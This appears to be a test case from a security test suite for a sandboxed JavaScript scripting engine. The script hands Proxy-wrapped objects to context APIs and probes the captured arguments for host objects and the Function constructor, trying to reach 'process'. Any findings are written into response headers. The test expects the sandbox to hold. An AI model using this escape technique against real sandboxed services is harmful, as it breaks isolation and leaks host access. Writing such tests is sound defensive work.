// ATTACK: hand Proxies to every context API that takes an argument; the traps record every target,
// receiver and argument the bootstrap passes them and probe those for host objects / Function
// constructors from another realm.
// EXPECT: fail
// CHECK-LOG: traps fired
const EXFIL = (c, label, data) => { let s; try { s = label + ' ' + (typeof data === 'string' ? data : JSON.stringify(data)); } catch { s = label + ' ' + String(data); } try { console.log(s); } catch {} try { c.getResponseBuilder().header('X-Exfil', encodeURIComponent(s).slice(0, 4000)); } catch {} try { c.getResponseBuilder().entity(s.slice(0, 60000)); } catch {} };
function revoke(context) {
  if (context.getGrant().getSubject() !== context.getScript().getName()) return true;
  const caught = [];
  let recording = true;
  const handler = {};
  for (const trap of ['get', 'set', 'has', 'ownKeys', 'getOwnPropertyDescriptor', 'getPrototypeOf', 'apply', 'construct', 'defineProperty', 'deleteProperty']) {
    handler[trap] = (...args) => { if (recording && caught.length < 10000) caught.push(...args); return Reflect[trap](...args); };
  }
  const mk = (t) => new Proxy(t, handler);
  const b = context.getResponseBuilder();
  const calls = [
    () => b.entity(mk({ a: mk([1, 2]) })),
    () => b.header(mk({}), 'x'),
    () => b.status(mk({})),
    () => b.type(mk({})),
    () => context.getContextVariables().set('p', mk({ x: 1 })),
    () => context.getContextVariables().forEach(mk(function () {})),
    () => context.isInNetwork(mk({})),
    () => context.getHttpRequest().getHeader(mk({})),
    () => console.log(mk({ k: 1 }), mk([]), mk(function () {})),
    () => context.getLog().info('{} {}', mk({}), mk([])),
  ];
  for (const c of calls) { try { c(); } catch {} }
  recording = false;
  const found = [];
  for (const v of caught) {
    if (v === null || (typeof v !== 'object' && typeof v !== 'function')) continue;
    try { if (!(v instanceof Object) && Object.getPrototypeOf(v) !== null) found.push('foreign object'); } catch {}
    try { const p = v.constructor.constructor('return typeof process === "undefined" ? null : process')(); if (p) found.push('process'); } catch {}
  }
  console.log('traps fired', caught.length);
  if (found.length) { EXFIL(context, 'ESCAPED', found); return false; }
  throw new Error('contained');
}
